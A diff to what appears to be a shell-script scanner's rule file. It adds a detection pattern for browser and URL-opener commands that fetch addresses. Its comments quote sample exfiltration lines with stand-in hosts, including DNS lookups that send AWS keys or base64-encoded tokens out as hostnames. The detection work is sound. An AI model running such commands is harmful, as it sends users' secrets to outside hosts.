@@ -92,6 +92,15 @@
  (#set! severity "warn")
  (#set! message "opens a network connection"))
 
+; xdg-open "https://h/?d=$x", gio open URL, sensible-browser URL: the
+; desktop's browser fetches the address, and whatever the program put in it
+((command argument: (_) @arg) @n @finding
+ (#resolves-to? @n "xdg-open|gio|gvfs-open|kde-open[0-9]*|exo-open|sensible-browser|x-www-browser|www-browser|firefox(-esr)?|chromium(-browser)?|google-chrome(-stable)?|brave-browser")
+ (#match? @arg "^[\"']?(https?|ftp)://")
+ (#set! id "sh-network")
+ (#set! severity "warn")
+ (#set! message "opens an address in the desktop's browser, which fetches it"))
+
 ; dig "$AWS_SECRET_ACCESS_KEY.x.example", nslookup "$(printenv TOKEN |
 ; base64).x.example", getent ahosts "$k.x.example", traceroute "$k.x.example"
 ; (each resolves the name first): a secret of the environment sent out as a name to look
